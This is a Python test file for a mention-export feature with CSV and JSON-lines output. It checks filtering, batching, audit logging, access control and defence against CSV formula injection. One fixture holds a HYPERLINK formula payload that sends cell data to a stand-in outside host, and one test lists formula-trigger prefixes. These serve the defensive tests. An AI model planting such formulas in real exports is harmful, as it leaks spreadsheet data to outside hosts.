"""Mentions that leave the house, as CSV and as JSON lines."""

import asyncio
import csv
import io
import json

import pytest
from click.testing import CliRunner

from heedful.connectors.contract import Deleted
from heedful.desk import exporting
from heedful.journal.models import Entry
from heedful.kit import sheets
from heedful.listening import actions as listening
from heedful.teams import actions as teams
from tests.conftest import NOON, said


@pytest.fixture
def heard(hear):
    hear(
        said("1", 'acme, it\'s "late"\nand wet', by="dana", title="So"),
        said("2", "zorble is late, 日本", by="tom"),
        said("3", '=HYPERLINK("http://x.test?"&A1,"acme")', by="eve"),
    )


def body(answer):
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode()


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text.removeprefix(sheets.BOM), newline="")))


def test_csv_holds_what_the_page_shows_newest_first(heard, signed_in, frank, track):
    answer = signed_in(frank).get("/mentions/export.csv")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="mentions-')
    text = body(answer)
    assert text.startswith("\ufeff")
    rows = rows_of(text)
    assert [row["author"] for row in rows] == ["Eve", "Tom", "Dana"]
    assert rows[2]["text"] == 'acme, it\'s "late"\nand wet'
    assert (rows[2]["title"], rows[2]["tracks"], rows[1]["text"]) == ("So", "Acme", "zorble is late, 日本")


def test_json_lines_hold_the_words_as_they_are(heard, signed_in, frank):
    told = [json.loads(line) for line in body(signed_in(frank).get("/mentions/export.jsonl")).splitlines()]
    assert told[0]["text"] == '=HYPERLINK("http://x.test?"&A1,"acme")'
    assert told[0]["tracks"] == ["Acme"]
    assert told[0]["conversation_id"] > 0


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        '"=1',
        "'=1",
        '" =1',
        "\u201c=1",
        "\uff1d1",
        "|x",
    ],
)
def test_no_cell_runs_as_a_formula(cell):
    written = sheets.line([cell])
    assert next(csv.reader(io.StringIO(written, newline="")))[0] == f"'{cell}"


@pytest.mark.parametrize("cell", ["acme = us", "a-b", "mail a@b.test", "", "3", "'tis", '"quoted"', "東京"])
def test_other_cells_stay_as_they_are(cell):
    assert next(csv.reader(io.StringIO(sheets.line([cell]), newline="")))[0] == cell


def test_a_formula_from_outside_is_text_in_the_file(heard, signed_in, frank):
    row = rows_of(body(signed_in(frank).get("/mentions/export.csv")))[0]
    assert row["text"].startswith("'=HYPERLINK")
    assert row["address"] == "'@eve"


@pytest.mark.parametrize(
    ("asked", "who"), [("q=late", ["Tom", "Dana"]), ("q=late+-zorble", ["Dana"]), ("track={other}", ["Tom"])]
)
def test_a_search_or_a_track_is_exported_alone(hear, olive, signed_in, frank, asked, who):
    other = listening.add_track(by_id=olive.pk, name="Other", query="zorble", at=NOON)
    hear(
        said("1", "acme is late", by="dana"),
        said("2", "zorble is late", by="tom"),
        said("3", "acme", by="ines"),
    )
    text = body(signed_in(frank).get(f"/mentions/export.csv?{asked.format(other=other.pk)}"))
    assert [row["author"] for row in rows_of(text)] == who


def test_all_batches_come_once_in_order(hear, signed_in, frank, monkeypatch):
    monkeypatch.setattr(exporting, "BATCH", 7)
    hear(*(said(f"m{n}", f"acme number {n} late", by=f"p{n}") for n in range(28)))
    browser = signed_in(frank)
    for path in ("/mentions/export.csv", "/mentions/export.csv?q=late"):
        texts = [row["text"] for row in rows_of(body(browser.get(path)))]
        assert texts == [f"acme number {n} late" for n in range(27, -1, -1)]


def test_deleted_words_stay_out(heard, hear, signed_in, frank):
    hear(deleted=[Deleted("1")])
    for form in ("csv", "jsonl"):
        for asked in ("", "?q=late"):
            text = body(signed_in(frank).get(f"/mentions/export.{form}{asked}"))
            assert ("wet" in text, "Dana" in text, "zorble" in text) == (False, False, True)


def test_the_journal_says_who_took_what_and_only_owners_read_it(
    heard, signed_in, frank, olive, track, client
):
    body(signed_in(frank).get(f"/mentions/export.jsonl?track={track.pk}&q=late"))
    entry = Entry.objects.get(kind="MentionsExported")
    assert (entry.teammate_id, entry.facts) == (frank.pk, {"name": "Acme late (jsonl)"})
    assert "took along mentions: Acme late (jsonl)" in " ".join(signed_in(olive).get("/audit/").text.split())
    token = teams.make_token(teammate_id=frank.pk, name="p", at=NOON)[1]
    told = client.get("/api/v1/events?since=0", headers={"authorization": f"Bearer {token}"}).json()
    assert "MentionsExported" not in {event["kind"] for event in told["items"]}


def test_another_teams_mentions_do_not_leave_with_it(heard, signed_in, frank, olive, square):
    shops = teams.add_team(by_id=olive.pk, name="Shops", at=NOON)
    listening.name_source(by_id=olive.pk, source_id=square.pk, name="Shop", team_id=shops.pk, at=NOON)
    for asked in ("", "?q=late"):
        assert rows_of(body(signed_in(frank).get(f"/mentions/export.csv{asked}"))) == []
        assert rows_of(body(signed_in(olive).get(f"/mentions/export.csv{asked}"))) != []


@pytest.mark.parametrize(("asked", "status"), [("q=(late", 400), ("track=99999", 404), ("track=x", 404)])
def test_what_cannot_be_read_is_refused_before_anything_leaves(heard, signed_in, frank, asked, status):
    assert signed_in(frank).get(f"/mentions/export.csv?{asked}").status_code == status
    assert not Entry.objects.filter(kind="MentionsExported").exists()


def test_nobody_exports_without_signing_in(client, heard):
    assert client.get("/mentions/export.csv")["Location"].startswith("/login/")


def test_the_console_writes_the_same_file(heard, frank, signed_in):
    from heedful.cli import cli

    told = CliRunner().invoke(cli, ["mentions", "--csv", "--query", "late", "--as", frank.email])
    assert rows_of(told.output) == rows_of(body(signed_in(frank).get("/mentions/export.csv?q=late")))
    assert Entry.objects.filter(kind="MentionsExported", teammate_id=frank.pk).count() == 2
    both = CliRunner().invoke(cli, ["mentions", "--csv", "--json", "--as", frank.email])
    assert both.exit_code == 2


def test_the_server_sends_while_it_reads():
    """Django would gather all of it first, were it no asynchronous iterator under ASGI."""
    from heedful.web.tracks.exporting import _in_threads

    read = []

    def pieces():
        for number in range(3):
            read.append(number)
            yield str(number)

    async def first():
        sent = _in_threads(pieces())
        return [await anext(sent), list(read), [piece async for piece in sent]]

    assert asyncio.run(first()) == ["0", [0], ["1", "2"]]


def test_each_batch_costs_the_same(hear, frank, monkeypatch, django_assert_num_queries):
    monkeypatch.setattr(exporting, "BATCH", 10)
    hear(*(said(f"m{n}", f"acme number {n} late", by=f"p{n}") for n in range(30)))
    parts = exporting.batches(exporting.Asked(frank.pk), at=NOON)
    for _ in range(3):
        with django_assert_num_queries(11):
            assert len(next(parts)) == 10
